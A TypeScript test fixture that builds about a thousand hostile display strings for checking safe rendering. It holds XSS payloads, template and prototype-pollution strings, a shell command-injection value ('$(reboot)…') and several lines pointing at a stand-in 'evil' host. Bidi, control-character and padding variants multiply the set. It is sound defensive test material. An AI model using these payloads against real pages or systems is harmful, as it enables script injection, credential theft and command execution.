/**
 * A thousand texts, the same each time, as a device, a server or a network might send them to whoever looks at a
 * page. None has a dot: a device's short name ends at the first. Whatever of it runs calls `hostile()`.
 */
export function hostileTexts(): string[] {
  return decorations.flatMap((decorate) => attacks.map((attack) => decorate(attack)));
}

/** What is drawn in the same way in its place, and does no harm. */
export function harmless(text: string, i: number): string {
  return `${/^https?:\/\//.test(text) ? 'https://' : ''}harmless${i}x`;
}

/** Elements, scripts, attributes, addresses, templates, and the names of what every object has. */
const attacks = [
  '<script>hostile()</script>',
  '<img src=x onerror=hostile()>',
  '<svg onload=hostile()>',
  '<svg><script>hostile()</script></svg>',
  '<iframe srcdoc="<script>parent[`hostile`]()</script>">',
  '<iframe src="javascript:parent[`hostile`]()">',
  '<a href="javascript:hostile()">log in</a>',
  '<button formaction="javascript:hostile()">Update</button>',
  '<form action="//evil"><input name=key autofocus onfocus=hostile()>',
  '<details open ontoggle=hostile()>',
  '<style>*{display:none}</style>',
  '<link rel=stylesheet href="//evil/css">',
  '<meta http-equiv=refresh content="0;//evil">',
  '<base href="//evil/">',
  '<video><source onerror=hostile()></video>',
  '<object data="//evil/x">',
  '<math><mi xlink:href="javascript:hostile()">x',
  '<p style="position:fixed;inset:0;background:red">',
  '</p></div></body></html><body onload=hostile()>',
  '<!--<img src="--><img src=x onerror=hostile()>',
  '<![CDATA[<img src=x onerror=hostile()>]]>',
  '"><script>hostile()</script>',
  "'><script>hostile()</script>",
  '" onmouseover="hostile()" autofocus onfocus="hostile()" x="',
  "' onmouseover='hostile()' x='",
  '&lt;script&gt;hostile()&lt;/script&gt;',
  '&#60;img src=x onerror=hostile()&#62;',
  'javascript:hostile()',
  'data:text/html,<script>hostile()</script>',
  'https://evil/"onclick="hostile()',
  'https://evil/<script>hostile()</script>',
  '${hostile()}{{hostile()}}<%= hostile() %>',
  '%s %d %h %2$s %% %n',
  '$& $1 $` \\u003cscript\\u003e',
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  '$(reboot)`reboot`;reboot|reboot',
  'null'
];

const long = 300;

/** How else it may be written: what would break out, turn round, cover, or push away what is beside it. */
const decorations: readonly ((attack: string) => string)[] = [
  (attack) => attack,
  (attack) => `a ${attack} b`,
  (attack) => `</textarea>${attack}`,
  (attack) => `</title></style></script>${attack}`,
  (attack) => `]]>--></select></option>${attack}`,
  (attack) => attack.toUpperCase(),
  (attack) => `\u202e${attack}`,
  (attack) => `\u202d\u2067\u2066${attack}`,
  (attack) => `${attack}\u202egnp${' '.repeat(20)}x`,
  (attack) => `שלום ${attack} مرحبا`,
  (attack) => `\u0000${attack}`,
  (attack) => `\u001b[31m\u0007${attack}\u0008\u007f`,
  (attack) => `one\ntwo\n${attack}`,
  (attack) => `\t${attack}\t`,
  (attack) => `\u2028${attack}\u2029`,
  (attack) => `\ufeff\u200b\u200d${attack}\u00ad`,
  (attack) => `${attack}${'W'.repeat(long)}`,
  (attack) => `${'W'.repeat(long)}${attack}`,
  (attack) => `${attack}${' w'.repeat(long)}`,
  (attack) => `${attack}${'長'.repeat(long)}`,
  (attack) => `${attack}${'\u00a0'.repeat(long)}x`,
  (attack) => `${attack}${'z\u0300\u0316\u0334'.repeat(long / 10)}`,
  (attack) => `${attack}${'👩‍👩‍👧‍👦🏴‍☠️'.repeat(long / 10)}`,
  (attack) => `${attack}${'﷽'.repeat(long / 10)}`,
  (attack) => `${attack}\ud800`
];
